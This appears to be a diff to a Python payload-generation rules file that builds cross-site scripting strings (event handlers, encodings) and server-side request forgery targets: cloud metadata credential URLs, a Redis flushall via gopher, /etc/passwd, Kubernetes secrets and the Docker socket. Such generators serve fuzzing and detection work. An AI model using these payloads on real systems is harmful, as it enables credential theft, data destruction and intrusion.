@@ -47,7 +47,7 @@ _XSS: Final[Rules] = {
     "codes": _from_char_code,
     "b64": _script_base64,
     "event": ["onerror", "onerror", "onload", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onstart", "onpageshow", "onanimationstart", "onblur", "onbegin", "onscroll", "onpointerenter", "onmouseenter", "onresize", "onhashchange", "onwheel", "onkeyup", "oncut",
-              "onanimationend", "onbeforetoggle", "onfinish", "onloadstart", "onmousemove", "ontransitionend", "oninput", "onsubmit", "onpropertychange"],
+              "onanimationend", "onbeforetoggle", "onfinish", "onloadstart", "onmousemove", "ontransitionend", "oninput", "onpropertychange"],
     "eq": ["=", "=", "=", " = ", "=\"", "='", "\n=", "=`", "%0a="],
     "close": [">", ">", ">", "/>", " >", "//", "", "<!--", " x", ">«word»"],
     "sp": [" ", " ", " ", "/", "\n", "\t", "/**/", "%0d", " «word» ", "//", "%0c"],
@@ -86,7 +86,7 @@ _FILES: Final[Rules] = {
     "ssrf": ["http://«inner»/latest/meta-data/", "http://«inner»/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/«word»", "http://metadata.google.internal/computeMetadata/v1/", "http://«inner»:«port»/", "http://«inner»:«port»/«noun»", "http://127.0.0.1:«port»/admin", "http://localhost:«port»/admin", "gopher://«inner»:«port»/_%0d%0aINFO",
              "gopher://127.0.0.1:6379/_flushall", "dict://«inner»:«port»/info", "file:///etc/passwd", "file:///c:/windows/win.ini", "file://«inner»/«target»", "ldap://«inner»:389/%0astats", "sftp://«host»:«port»/", "tftp://«host»:69/«word»", "http://localhost/server-status", "http://«word»@«inner»/", "http://«host»#@«inner»/", "http://«host»@«inner»/«noun»",
              "jar:http://«host»/«word».jar!/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.170.2/v2/credentials/", "netdoc:///etc/passwd", "http://kubernetes.default.svc/api/v1/secrets", "http://«inner»/admin/delete?user=«word»", "http://«inner»:2375/containers/json", "unix:///var/run/docker.sock",
-             "http://«inner»/openstack/latest/meta_data.json", "url=http://«inner»/", "http://①②⑦.⓪.⓪.①/", "http://«inner»%23.«host»/", "http:\\\\«inner»\\", "http:«inner»/", "https://«inner»:«port»@«host»/"],
+             "http://«inner»/openstack/latest/meta_data.json", "url=http://«inner»/", "http://①②⑦.⓪.⓪.①/", "http://«inner»%23.«host»/", "http:\\\\«inner»\\", "https://«inner»:«port»@«host»/"],
     "port": ["22", "80", "3306", "6379", "8080", "9200", "11211", "5432", "2375", "27017", "8500", "10250", "25", "«nn»"],
 }  # fmt: skip
 
